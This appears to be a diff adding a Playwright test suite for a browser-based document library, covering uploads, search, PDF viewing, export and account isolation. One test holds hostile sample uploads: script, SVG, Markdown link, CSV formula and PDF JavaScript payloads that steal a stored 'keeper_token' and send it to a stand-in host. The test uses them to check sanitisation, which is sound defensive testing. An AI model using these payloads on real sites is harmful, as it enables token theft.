@@ -1,0 +1,286 @@
+import { readFile } from 'node:fs/promises'
+import type { Page } from '@playwright/test'
+import { unzipSync } from 'fflate'
+import { arrive, expect, signIn, test } from './fixtures.ts'
+import { expectNoBreach } from './no-breach.ts'
+
+interface Sent {
+  name: string
+  mimeType: string
+  buffer: Buffer
+}
+const text = (name: string, words: string, mimeType = 'text/plain'): Sent => ({
+  name,
+  mimeType,
+  buffer: Buffer.from(words),
+})
+const card = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
+const search = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
+
+async function upload(page: Page, ...files: Sent[]) {
+  await page.getByLabel('Choose documents').setInputFiles(files)
+}
+async function uploaded(page: Page, ...files: Sent[]) {
+  await upload(page, ...files)
+  for (const { name } of files) await expect(card(page, name)).toBeVisible()
+}
+async function view(page: Page, name: string) {
+  await page.getByRole('button', { name: `View ${name}` }).click()
+  const dialog = page.getByRole('dialog', { name })
+  await expect(dialog).toBeVisible()
+  return dialog
+}
+
+/** A real PDF of three pages, with fonts of its own in it. */
+async function pdfOf(page: Page): Promise<Buffer> {
+  const maker = await page.context().newPage()
+  const next = 'style="break-before: page"'
+  await maker.setContent(
+    `<h1>Lease</h1><p>The boathouse clause.</p><p ${next}>The jetty too.</p><p ${next}>Signed.</p>`,
+  )
+  const pdf = await maker.pdf()
+  await maker.close()
+  return pdf
+}
+
+test('several files show their progress each, are there after a reload, and no call is made', async ({
+  page,
+  keeper,
+  context,
+}) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await expect(page.getByText('No documents found')).toBeVisible()
+  await page.waitForLoadState('networkidle')
+  const calls: string[] = []
+  page.on('request', (request) => {
+    if (new URL(request.url()).pathname.startsWith('/api/')) calls.push(`${request.method()} ${request.url()}`)
+  })
+  const files = [
+    text('Choir list.txt', 'Who sings what.'),
+    text('export.json', '{"moments":[1,2]}', 'application/json'),
+    text('notes.md', '# Tides', ''),
+  ]
+  await upload(page, ...files)
+  for (const { name } of files) {
+    await expect(page.getByRole('progressbar', { name: `Upload of ${name}` })).toBeVisible()
+    await expect(card(page, name)).toHaveCount(0)
+  }
+  for (const { name } of files) await expect(card(page, name)).toBeVisible()
+  await expect(page.getByRole('list', { name: 'Uploads' })).toHaveCount(0)
+  await expect(card(page, 'Choir list.txt')).toContainText(/text, 15 Bytes, \w{3} \d{1,2}, \d{4}/)
+  await expect(page.getByText(/ of .*GB used/)).toBeVisible()
+
+  const other = await context.newPage()
+  await other.goto('/library')
+  await expect(card(other, 'notes.md')).toBeVisible()
+  await page.getByRole('button', { name: 'Edit Choir list.txt' }).click()
+  await page.getByLabel('Name').fill('Choir')
+  await page.getByLabel('Description').fill('Autumn')
+  await page.getByLabel('Tags').fill(' a, b ,, c,d, e')
+  await page.getByRole('button', { name: 'Save' }).click()
+  await expect(card(page, 'Choir')).toContainText('+2 more')
+  await expect(card(other, 'Choir')).toContainText('Autumn')
+  await other.close()
+  expect(calls).toEqual([])
+
+  await page.reload()
+  await expect(page.getByRole('article')).toHaveCount(3)
+  await page.getByRole('button', { name: 'Markdown' }).click()
+  await expect(page.getByRole('article')).toHaveCount(1)
+  await page.getByText('List', { exact: true }).click()
+  await page.reload()
+  await expect(page.getByRole('radio', { name: 'List' })).toBeChecked()
+  await expectNoBreach(page, 'documents in a list')
+  await page.setViewportSize({ width: 390, height: 844 })
+  await page.getByText('Cards', { exact: true }).click()
+  await expectNoBreach(page, 'documents on a phone')
+})
+
+test('what is too large or of another kind is refused in words, and the same bytes are asked about', async ({
+  page,
+  keeper,
+}) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await upload(page, text('tool.exe', 'MZ', 'application/x-msdownload'))
+  await expect(page.getByText('Unsupported file type. Please upload PDF, JSON, Markdown, or text files.')).toBeVisible()
+  await page.getByRole('button', { name: 'Dismiss tool.exe' }).click()
+  // Chosen on the page: so many bytes cannot be sent through the test runner.
+  await page.getByLabel('Choose documents').evaluate((input: HTMLInputElement) => {
+    const carried = new DataTransfer()
+    carried.items.add(new File([new Uint8Array(50 * 1024 * 1024 + 1)], 'large.txt', { type: 'text/plain' }))
+    input.files = carried.files
+    input.dispatchEvent(new Event('change', { bubbles: true }))
+  })
+  await expect(page.getByText('File size exceeds 50MB limit')).toBeVisible()
+  await page.getByRole('button', { name: 'Dismiss large.txt' }).click()
+
+  await uploaded(page, text('a.txt', 'the same words'))
+  await upload(page, text('b.txt', 'the same words'))
+  await expect(page.getByText('The same document is here already, as “a.txt”.')).toBeVisible()
+  await expect(card(page, 'b.txt')).toHaveCount(0)
+  await page.getByRole('button', { name: 'Keep both' }).click()
+  await expect(card(page, 'b.txt')).toBeVisible()
+
+  await page.evaluate(() => {
+    const put = IDBObjectStore.prototype.put
+    IDBObjectStore.prototype.put = () => {
+      IDBObjectStore.prototype.put = put
+      throw new DOMException('full', 'QuotaExceededError')
+    }
+  })
+  await upload(page, text('c.txt', 'other words'))
+  await expect(page.getByText('Upload failed. Please try again.')).toBeVisible()
+  await expect(page.getByText('This browser has no more room for documents.')).toBeVisible()
+  await page.getByRole('button', { name: 'Try again' }).click()
+  await expect(card(page, 'c.txt')).toBeVisible()
+})
+
+test('words in a PDF, a page and a letter are found, and a PDF is read page by page', async ({ page, keeper }) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  const lease = { name: 'lease.pdf', mimeType: 'application/pdf', buffer: await pdfOf(page) }
+  await uploaded(
+    page,
+    lease,
+    text('garden.html', '<p>Kale in the second bed</p><script>kale()</script>', 'text/html'),
+    text('letter.rtf', "{\\rtf1 Dear Ida, the caf\\'e9 is open.}", 'application/rtf'),
+  )
+  for (const [words, name] of [
+    ['JETTY', 'lease.pdf'],
+    ['second bed', 'garden.html'],
+    ['café', 'letter.rtf'],
+  ] as const) {
+    await search(page).fill(words)
+    await expect(page.getByRole('article')).toHaveCount(1)
+    await expect(card(page, name)).toContainText('In the text:')
+    await expect(card(page, name).locator('mark')).toHaveText(words, { ignoreCase: true })
+  }
+  await search(page).fill('nothing has this')
+  await expect(page.getByText('No documents found')).toBeVisible()
+  await page.getByRole('button', { name: 'Show all' }).click()
+
+  const dialog = await view(page, 'lease.pdf')
+  await expect(dialog.getByText('The boathouse clause.')).toBeAttached()
+  await expect(dialog.getByRole('region', { name: 'Page 1' })).toHaveAttribute('aria-busy', 'false')
+  const isDrawn = await dialog
+    .locator('canvas')
+    .first()
+    .evaluate((canvas: HTMLCanvasElement) => {
+      const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height / 2).data ?? []
+      return pixels.some((value, at) => at % 4 === 0 && value < 100)
+    })
+  expect(isDrawn).toBe(true)
+  await dialog.getByRole('region', { name: 'lease.pdf, 3 pages' }).focus()
+  await page.keyboard.press('End')
+  await expect(dialog.getByLabel('Page', { exact: true })).toHaveValue('3')
+  await page.keyboard.press('+')
+  await expect(dialog.getByText('125 %')).toBeVisible()
+  await expectNoBreach(page, 'a PDF')
+  await page.reload()
+  await expect(page.getByRole('dialog', { name: 'lease.pdf' }).getByText('The boathouse clause.')).toBeAttached()
+})
+
+test('documents that would steal the token or call home cannot, whatever they are', async ({ page, keeper }) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  const home = 'https://home.example'
+  const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${home}/?'+top.stolen)`
+  const html = `<style>@import "${home}/a.css"</style><link rel=stylesheet href=${home}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${home}"><img src="${home}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${home}><button>send</button></form><p>harmless words</p>`
+  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${home}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${home})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`
+  const hostile = [
+    text('page.html', html, 'text/html'),
+    text(
+      'drawing.xml',
+      `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
+      'text/xml',
+    ),
+    text(
+      'notes.md',
+      `harmless words\n\n![x](${home}/m.png)\n\n[press](javascript:${steal})\n\n${html}`,
+      'text/markdown',
+    ),
+    text('table.csv', `a,b\n=HYPERLINK("${home}"),<img src=x onerror=${steal}>`, 'text/csv'),
+    text('data.json', JSON.stringify({ __proto__: html, html }), 'application/json'),
+    text('deed.pdf', pdf, 'application/pdf'),
+  ]
+  const asked: string[] = []
+  page.on('request', (request) => {
+    const { protocol, origin, pathname } = new URL(request.url())
+    const isOwn = origin === new URL(keeper.url).origin && pathname.startsWith('/assets/')
+    if (!isOwn && protocol !== 'blob:' && protocol !== 'data:') asked.push(request.url())
+  })
+  await uploaded(page, ...hostile)
+  for (const { name } of hostile) {
+    const dialog = await view(page, name)
+    if (name === 'page.html') await expect(page.frameLocator('iframe').getByText('harmless words')).toBeVisible()
+    else if (name === 'deed.pdf') await expect(dialog.getByRole('region', { name: 'Page 1' })).toBeVisible()
+    else if (name === 'table.csv') await expect(dialog.getByRole('cell', { name: /HYPERLINK/ })).toBeVisible()
+    else await expect(dialog.getByText(/harmless words|onload/).first()).toBeAttached()
+    await expect(dialog.locator('a[href^="javascript:"], script, img, svg[onload]')).toHaveCount(0)
+    await page.keyboard.press('Escape')
+    await expect(dialog).toHaveCount(0)
+  }
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  expect(asked).toEqual([])
+})
+
+test('a broken document says so and is downloaded as it was', async ({ page, keeper }) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await uploaded(page, text('broken.pdf', 'no PDF at all', 'application/pdf'))
+  const dialog = await view(page, 'broken.pdf')
+  await expect(dialog.getByText('Error loading document content')).toBeVisible()
+  const coming = page.waitForEvent('download')
+  await dialog.getByRole('button', { name: 'Download' }).click()
+  const download = await coming
+  expect(download.suggestedFilename()).toBe('broken.pdf')
+  expect(await readFile(await download.path(), 'utf8')).toBe('no PDF at all')
+  await dialog.getByRole('button', { name: 'Edit info' }).click()
+  await expect(page.getByRole('dialog', { name: 'Edit document' }).getByLabel('Name')).toHaveValue('broken.pdf')
+})
+
+test('by keyboard: documents are chosen, exported, deleted and brought back', async ({ page, keeper }) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await uploaded(page, text('a.txt', 'words of a'), text('b.txt', 'words of b'))
+  await page.getByRole('checkbox', { name: 'Choose a.txt' }).focus()
+  await page.keyboard.press('Space')
+  await page.getByRole('button', { name: 'Choose all 2' }).focus()
+  await page.keyboard.press('Enter')
+  await expect(page.getByText('2 documents chosen')).toBeVisible()
+  const coming = page.waitForEvent('download')
+  await page.getByRole('button', { name: 'Export as zip' }).press('Enter')
+  const files = unzipSync(await readFile(await (await coming).path()))
+  expect(Buffer.from(files['a.txt'] ?? []).toString()).toBe('words of a')
+  expect(Object.keys(files).sort()).toEqual(['a.txt', 'b.txt', 'documents.json'])
+
+  await page.getByRole('toolbar', { name: 'What is chosen' }).getByRole('button', { name: 'Delete' }).press('Enter')
+  await expect(page.getByText('Are you sure you want to delete these 2 documents?')).toBeVisible()
+  await page.getByRole('button', { name: 'Delete documents' }).press('Enter')
+  await expect(page.getByText('No documents found')).toBeVisible()
+  await expect(page.getByRole('region', { name: 'Documents' })).toBeFocused()
+  await page.getByRole('button', { name: 'Undo' }).press('Enter')
+  await expect(page.getByRole('article')).toHaveCount(2)
+  await page.getByRole('button', { name: 'Delete a.txt' }).press('Enter')
+  await expect(page.getByText('Are you sure you want to delete this document?')).toBeVisible()
+  await page.keyboard.press('Escape')
+  await expect(page.getByRole('button', { name: 'Delete a.txt' })).toBeFocused()
+})
+
+test('signing out leaves documents for their person, and nobody else sees them here', async ({ page, keeper }) => {
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await uploaded(page, text('diary.txt', 'only mine'))
+  await page
+    .getByRole('button', { name: /sign out|log ?out/i })
+    .first()
+    .click()
+  await expect(page).not.toHaveURL(/library/)
+  await arrive(page, keeper, 'grace', { path: '/library' })
+  await expect(page.getByText('No documents found')).toBeVisible()
+  await search(page).fill('only mine')
+  await expect(page.getByRole('article')).toHaveCount(0)
+  await page
+    .getByRole('button', { name: /sign out|log ?out/i })
+    .first()
+    .click()
+  await expect(page).not.toHaveURL(/library/)
+  await signIn(page, 'ada')
+  await page.goto('/library')
+  await expect(card(page, 'diary.txt')).toBeVisible()
+})
